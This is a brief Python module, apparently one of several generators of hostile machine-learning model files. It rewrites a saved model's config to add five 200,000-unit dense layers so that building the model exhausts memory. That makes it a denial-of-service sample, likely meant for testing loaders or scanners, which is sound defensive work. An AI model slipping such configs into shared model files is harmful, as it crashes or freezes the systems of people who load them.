"""Layers of so many units that their weights fill the memory of whoever builds them."""
# places: model


def save(path):
    rewrite(path, lambda parts, config: [config["config"]["layers"].append(
        {**dense(config), "config": {**dense(config)["config"], "name": f"d{n}", "units": 200_000}, "build_config": {}})
        for n in range(5)])
